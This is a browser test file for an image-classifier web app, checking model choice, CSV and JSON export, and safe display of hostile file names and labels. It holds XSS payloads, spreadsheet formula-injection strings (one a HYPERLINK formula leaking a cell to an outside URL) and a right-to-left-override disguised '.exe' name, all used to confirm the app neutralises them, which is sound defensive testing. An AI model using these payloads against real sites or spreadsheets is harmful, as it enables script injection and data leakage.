"""Choice of the model, exported files, hostile names and labels, in a real browser."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.support.models.pictures import BLUE, GREEN, RED, plain
from tests.support.models.tiny_model import write_model
from tests.support.servers.browser import Visit, photo, visit
from tests.support.servers.server import LiveServer, serve

MARKUP = "<img src=x onerror=document.title='owned'>"
LONG = "blue" * 50
FORMULA = '=HYPERLINK("http://example.org/?" & A1)'
HOSTILE_NAMES = (
    f"{MARKUP}.png",
    "<svg onload=alert(1)>.png",
    "photo\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "=1+1.png",
    "@SUM(A1).png",
    '+1;"=2".png',
    "\N{FULLWIDTH EQUALS SIGN}1.png",
    "مرحبا.png",
    f"{'long' * 50}.png",
)


@pytest.fixture(scope="module")
def two_models(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """The colour model, and a second one with hostile labels."""
    repository = tmp_path_factory.mktemp("models")
    write_model(repository)
    write_model(repository, name="hostile", labels=[MARKUP, FORMULA, LONG])
    with serve(tmp_path_factory.mktemp("server"), models=repository) as live:
        yield live


@pytest.fixture
def page(browser: Browser, two_models: LiveServer) -> Iterator[Visit]:
    """A signed-in page."""
    with visit(browser, two_models.url) as visited:
        visited.sign_in()
        expect(visited.page.locator("#workspace")).to_be_visible()
        yield visited


def saved(page: Visit, button: str) -> Path:
    with page.page.expect_download() as download:
        page.page.get_by_role("button", name=button).click()
    assert download.value.suggested_filename == f"potoo.{button.split()[1].lower()}"
    return Path(download.value.path())


def saved_csv(page: Visit) -> list[dict[str, str]]:
    text = saved(page, "Save CSV").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(text.splitlines(keepends=True), strict=True))


def saved_json(page: Visit) -> list[dict[str, Any]]:
    entries: list[dict[str, Any]] = json.loads(saved(page, "Save JSON").read_bytes())
    return entries


def test_chosen_model_answers(page: Visit) -> None:
    model = page.page.locator("#model")
    expect(model).to_have_value("colours")
    assert model.locator("option").all_text_contents() == ["colours", "hostile"]
    page.show(photo("a.png", plain(BLUE)))
    expect(page.card("a.png").locator(".label").first).to_have_text("blue")
    model.select_option("hostile")
    page.show(photo("b.png", plain(BLUE)))
    expect(page.card("b.png").locator(".label").first).to_have_text(LONG)
    expect(page.card("b.png").locator(".facts")).to_contain_text("hostile")
    expect(page.card("a.png").locator(".facts")).to_contain_text("colours")
    names = page.page.locator(".file-name").all_text_contents()
    assert names == ["b.png", "a.png"]  # the newest photos come first


def test_another_model_is_asked_about_the_same_photos(page: Visit) -> None:
    again = page.page.locator("#ask-again")
    page.show(photo("a.png", plain(BLUE)), photo("b.png", plain(RED)))
    expect(page.page.locator(".card[data-state=done]")).to_have_count(2)
    expect(again).to_be_hidden()
    page.page.locator("#model").select_option("hostile")
    expect(again).to_have_text("Ask hostile instead")
    again.click()
    expect(page.card("a.png").locator(".facts")).to_contain_text("hostile 1")
    expect(page.card("b.png").locator(".facts")).to_contain_text("hostile 1")
    expect(again).to_be_hidden()
    assert {entry["result"]["model"]["name"] for entry in saved_json(page)} == {"hostile"}


def test_name_of_the_model_opens_what_it_knows(page: Visit) -> None:
    page.show(photo("a.png", plain(BLUE)))
    page.card("a.png").get_by_role("button", name="colours 1").click()
    expect(page.page.locator("#knows-title")).to_have_text("What colours knows")


def test_hostile_names_and_labels_are_shown_as_text(page: Visit) -> None:
    page.page.locator("#model").select_option("hostile")
    page.show(*(photo(name, plain(RED)) for name in HOSTILE_NAMES))
    expect(page.page.locator(".card[data-state=done]")).to_have_count(len(HOSTILE_NAMES))
    assert page.page.locator(".file-name bdi").all_text_contents() == list(HOSTILE_NAMES)
    for card in page.page.locator(".card").all():
        expect(card.locator(".bars .label")).to_have_text([MARKUP, FORMULA, LONG])
    assert page.page.locator(".card :is(img, script, [onload])").count() == 0
    expect(page.page).to_have_title("Potoo")
    # A mark that reverses the direction of text must end with the name that contains it.
    assert page.page.locator(".file-name bdi").first.evaluate(
        "(name) => getComputedStyle(name).unicodeBidi"
    ) in {"isolate", "plaintext"}


def test_long_label_is_wrapped(page: Visit) -> None:
    page.page.set_viewport_size({"width": 320, "height": 640})
    page.page.locator("#model").select_option("hostile")
    page.show(photo(f"{LONG}.png", plain(BLUE)))
    card = page.card(f"{LONG}.png")
    expect(card.locator(".bars .label").first).to_have_text(LONG)
    edge = card.bounding_box()
    assert edge is not None
    for part in card.locator(".bars :is(.label, .score), .facts").all():
        box = part.bounding_box()
        assert box is not None
        assert box["x"] + box["width"] <= edge["x"] + edge["width"]


def test_results_are_saved_as_csv(page: Visit) -> None:
    page.show(
        photo("red.png", plain(RED)),
        photo("fog.png", plain((9, 9, 9))),
        photo("notes.jpg", b"just a text", "image/jpeg"),
    )
    expect(page.page.locator("#summary")).to_contain_text("3 photos")
    answered, unsure, failed = saved_csv(page)
    assert answered["file"] == "red.png"
    assert answered["outcome"] == "answered"
    assert (answered["model"], answered["version"]) == ("colours", "1")
    assert (answered["format"], answered["width"], answered["height"]) == ("PNG", "64", "48")
    assert (answered["summary"], answered["label_1"]) == ("red", "red")
    assert answered["summary_score"] == answered["score_1"]
    assert float(answered["score_1"]) > 0.99
    assert float(answered["total_ms"]) > 0
    assert answered["label_4"] == answered["score_5"] == ""
    assert (unsure["outcome"], unsure["summary"], unsure["summary_score"]) == ("not sure", "", "")
    assert failed["outcome"] == "failed"
    assert failed["detail"] == "Not a JPEG, PNG, WebP, GIF, BMP or TIFF image."
    assert failed["label_1"] == failed["model"] == ""


def test_csv_cells_are_never_formulas(page: Visit) -> None:
    page.page.locator("#model").select_option("hostile")
    page.show(*(photo(name, plain(GREEN)) for name in HOSTILE_NAMES))
    expect(page.page.locator(".card[data-state=done]")).to_have_count(len(HOSTILE_NAMES))
    rows = saved_csv(page)
    assert len(rows) == len(HOSTILE_NAMES)
    for row in rows:
        assert row["label_1"] == row["summary"] == f"'{FORMULA}"
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@", "\N{FULLWIDTH EQUALS SIGN}"))
    guarded = [row["file"] for row in rows if row["file"].startswith("'")]
    assert guarded == [
        f"'{name}" for name in HOSTILE_NAMES if name[0] in "=@+\N{FULLWIDTH EQUALS SIGN}"
    ]


def test_results_are_saved_as_the_api_json(page: Visit) -> None:
    page.page.locator("#model").select_option("hostile")
    with page.page.expect_response("**/v1/classify*") as answered:
        page.show(photo(HOSTILE_NAMES[2], plain(RED)))
    page.show(photo("notes.jpg", b"just a text", "image/jpeg"))
    expect(page.page.locator("#summary")).to_contain_text("2 photos")
    first, second = saved_json(page)
    assert first == {
        "file": HOSTILE_NAMES[2],
        "outcome": "answered",
        "summary": MARKUP,
        "summary_score": answered.value.json()["summary"]["score"],
        "result": answered.value.json(),
    }
    assert second["problem"]["status"] == 415
    assert second["problem"]["code"] == "unsupported_image"
